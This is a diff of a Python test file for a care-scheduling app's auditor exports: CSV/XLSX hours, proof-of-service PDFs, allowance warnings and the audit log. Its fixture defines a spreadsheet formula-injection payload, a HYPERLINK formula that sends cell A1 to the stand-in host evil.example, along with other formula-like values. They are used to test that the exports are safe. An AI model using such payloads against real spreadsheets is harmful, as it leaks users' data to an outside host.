@@ -1,7 +1,7 @@
 """Auditor exports: hours (CSV/XLSX, pseudonymised), proof of service PDF, allowances, audit log."""
 
 import csv
-from datetime import date, datetime, timezone
+from datetime import UTC, date, datetime
 
 import pytest
 from openpyxl import load_workbook
@@ -12,7 +12,7 @@ from carecal.billing import invoicing, records
 from carecal.weeks import IsoWeek
 from tests import factories as f
 
-AFTER = datetime(2026, 12, 15, tzinfo=timezone.utc)
+AFTER = datetime(2026, 12, 15, tzinfo=UTC)
 EVIL_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"klick")'
 
 
@@ -23,16 +23,26 @@ def month(db_url):
         org = f.organisation(s)
         f.billing_rates(s, org)
         natalia = f.volunteer(s, first_name="Natalia", last_name="Wolkowa")
-        expired = f.volunteer(s, first_name="Jurij", last_name="Gagarin",
-                              trainings=(("basic", date(2022, 1, 1), date(2026, 6, 30)),))
+        expired = f.volunteer(
+            s, first_name="Jurij", last_name="Gagarin", trainings=(("basic", date(2022, 1, 1), date(2026, 6, 30)),)
+        )
         olga = f.client(s, first_name="Olga", last_name="Schmidt", benefits_assigned_on=date(2026, 1, 1))
         evil = f.client(s, first_name="-1+2", last_name=EVIL_NAME)
         first = f.published_visit(s, "2026-W45", f.care_request(s, olga), natalia, day="tue")
         second = f.published_visit(s, "2026-W46", olga.requests[0], expired, day="wed", start="09:30")
-        third = f.published_visit(s, "2026-W46", f.care_request(s, evil, activity="@Einkaufen begleiten"), natalia,
-                                  day="thu")
-        records.record_visit(s, second.id, "anna", status="delivered", activity="Vorlesen aus der Zeitung",
-                             signature="none", signature_reason="Klientin schlief", now=AFTER)
+        third = f.published_visit(
+            s, "2026-W46", f.care_request(s, evil, activity="@Einkaufen begleiten"), natalia, day="thu"
+        )
+        records.record_visit(
+            s,
+            second.id,
+            "anna",
+            status="delivered",
+            activity="Vorlesen aus der Zeitung",
+            signature="none",
+            signature_reason="Klientin schlief",
+            now=AFTER,
+        )
         for week in ("2026-W45", "2026-W46"):
             records.confirm_week(s, IsoWeek.parse(week), "anna", now=AFTER)
         invoicing.run_month(s, "2026-11", "treasurer", issued_on=date(2026, 12, 1))
@@ -90,9 +100,19 @@ def test_the_proof_of_service_pdf_has_every_visit_line(cli, month, tmp_path):
     assert result.exit_code == 0
     path = tmp_path / f"leistungsnachweis_2026-11_{month['olga']}.pdf"
     text = " ".join(" ".join(page.extract_text() for page in PdfReader(path).pages).split())
-    for expected in ("Leistungsnachweis 11/2026", "Olga Schmidt", "09.05.1941", "AOK PLUS", "Pflegegrad: 3",
-                     "01.11.2026 bis 30.11.2026", "Brücke Chemnitz e. V.", "461234567", "§ 45a SGB XI", "§ 45b SGB XI",
-                     "Unterschrift Klient/in bzw. Vertreter/in"):
+    for expected in (
+        "Leistungsnachweis 11/2026",
+        "Olga Schmidt",
+        "09.05.1941",
+        "AOK PLUS",
+        "Pflegegrad: 3",
+        "01.11.2026 bis 30.11.2026",
+        "Brücke Chemnitz e. V.",
+        "461234567",
+        "§ 45a SGB XI",
+        "§ 45b SGB XI",
+        "Unterschrift Klient/in bzw. Vertreter/in",
+    ):
         assert expected in text, expected
     for line in ("03.11.2026 14:00 16:00 120 Natalia Wolkowa", "11.11.2026 09:30 11:30 120 Jurij Gagarin"):
         assert line in text, line
@@ -102,10 +122,12 @@ def test_the_proof_of_service_pdf_has_every_visit_line(cli, month, tmp_path):
 
 def test_proofs_for_all_clients_and_a_name_outside_latin_1(cli, month, tmp_path, db_url):
     from carecal.billing.proof import pdf_text
+
     assert pdf_text("Людмила Łukasz Grüße §") == "Ljudmila Lukasz Grüße §"
     assert cli("export", "proof", "--month", "2026-11", "--out", tmp_path).exit_code == 0
     assert sorted(p.name for p in tmp_path.glob("*.pdf")) == sorted(
-        f"leistungsnachweis_2026-11_{c}.pdf" for c in (month["olga"], month["evil"]))
+        f"leistungsnachweis_2026-11_{c}.pdf" for c in (month["olga"], month["evil"])
+    )
     assert cli("export", "proof", "--month", "2026-10", "--client", month["olga"], "--out", tmp_path).exit_code == 3
 
 
@@ -118,13 +140,17 @@ def test_allowances_warn_near_and_over_the_tax_free_limit(cli, db_url, tmp_path)
         request = f.care_request(s, f.client(s), windows=(("mon", "08:00", "20:00"),))
         for week, volunteer in (("2030-W02", busy), ("2030-W03", busy), ("2030-W04", calm)):
             visit = f.published_visit(s, week, request, volunteer, day="mon")
-            records.record_visit(s, visit.id, "anna", status="delivered", now=datetime(2030, 12, 1, tzinfo=timezone.utc))
+            records.record_visit(s, visit.id, "anna", status="delivered", now=datetime(2030, 12, 1, tzinfo=UTC))
         ids = busy.external_id, calm.external_id
     result = cli("export", "allowances", "--year", "2030", "-o", tmp_path / "a.csv")
     assert result.exit_code == 0, result.stderr
     rows = {r["volunteer_id"]: r for r in read_csv(tmp_path / "a.csv")}
     # 2 h at 9 €/h per visit; the limit is 40 €
-    assert (rows[ids[0]]["hours"], rows[ids[0]]["allowance_eur"], rows[ids[0]]["share_of_limit"]) == ("4.00", "36.00", "0.900")
+    assert (rows[ids[0]]["hours"], rows[ids[0]]["allowance_eur"], rows[ids[0]]["share_of_limit"]) == (
+        "4.00",
+        "36.00",
+        "0.900",
+    )
     assert rows[ids[0]]["warning"] == "near the tax-free limit" and rows[ids[1]]["warning"] == ""
     assert "near the tax-free limit" in " ".join(result.stderr.split())
     assert cli("export", "allowances", "--year", "26").exit_code == 2
@@ -134,6 +160,9 @@ def test_audit_log_export_filters_by_local_day(cli, month, tmp_path):
     assert cli("export", "audit-log", "-o", tmp_path / "all.csv").exit_code == 0
     actions = [r["action"] for r in read_csv(tmp_path / "all.csv")]
     assert "visit.record" in actions and "visit.confirm" in actions and "billing.run" in actions
-    assert cli("export", "audit-log", "--from", "2001-01-01", "--to", "2001-12-31", "-o", tmp_path / "none.csv").exit_code == 0
+    assert (
+        cli("export", "audit-log", "--from", "2001-01-01", "--to", "2001-12-31", "-o", tmp_path / "none.csv").exit_code
+        == 0
+    )
     assert read_csv(tmp_path / "none.csv") == []
     assert cli("export", "audit-log", "--from", "yesterday").exit_code == 2
